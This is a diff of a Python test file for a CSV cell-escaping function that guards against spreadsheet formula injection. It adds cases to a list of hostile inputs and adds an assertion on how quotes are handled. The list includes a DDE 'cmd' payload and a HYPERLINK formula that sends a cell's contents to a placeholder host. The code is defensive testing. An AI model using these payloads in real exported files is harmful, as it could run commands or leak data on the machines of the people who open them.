@@ -24,7 +24,7 @@ PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:[.,][0-9]*)?|[.,][0-9]+)(?:[eE][+-]
 
 HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"click")', "@SUM(1+1)", "+1+cmd|' /C calc'!A0", "-2+3+cmd|x",
            "\t=1+1", "\r=1+1", "\n=1+1", "\x00=1+1", "＝1+1", "＋1", "－1+1", "＠x", " =1+1", "0.1;=1+1;",
-           "a,=1+1", "a\t=1+1"]
+           "a,=1+1", "a\t=1+1", 'a;"=1+1', "a\n\"@x"]
 
 
 def live_cells(text: str) -> list[tuple[str, str]]:
@@ -62,6 +62,7 @@ def test_a_cell_holding_either_separator_is_quoted():
     # neutral: a spreadsheet splitting a comma file on ';' ignores the quotes of a cell mid-line.
     assert cell("0.1;=1+1;") == '"0.1;\'=1+1;"'
     assert cell("a;-0.5") == '"a;-0.5"'
+    assert cell('a;"=1+1') == '"a;\'""=1+1"'  # a reader may take the quote after ';' for a quoted cell's
     assert cell("a,b") == '"a,b"' and cell('say "hi"') == '"say ""hi"""'
     assert cell("＝1+1") == "'＝1+1" and cell("\x00x").startswith("\"'")
 
